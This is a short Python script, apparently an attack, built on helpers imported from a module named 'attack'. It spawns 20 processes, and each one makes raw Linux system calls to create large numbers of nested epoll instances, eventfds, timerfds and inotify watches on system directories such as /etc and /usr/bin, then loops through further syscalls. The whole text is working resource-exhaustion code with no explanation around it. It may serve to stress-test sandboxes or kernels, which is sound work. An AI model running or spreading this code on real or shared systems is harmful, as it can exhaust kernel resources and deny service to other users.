import os, select, socket
from attack import call, children
def many(_):
    held = []
    try:
        while True:
            one = select.epoll(); held.append(one)
            for other in held[-30:-1]:
                try: one.register(other.fileno(), select.EPOLLIN)
                except OSError: pass
            held.append(os.eventfd(0))
            call(283, 85, 0, 0)
            watch, _ = call(294, 26, 0)
            if watch >= 0:
                for path in (b"/", b"/usr", b"/usr/bin", b"/etc", b"/tmp", b"/project"): call(254, 27, watch, path, 0xfff)
    except OSError: pass
    for i in range(100000):
        if call(222, 107, 0, None, (b"\0" * 8))[1]: break
children(20, many)
many(0)
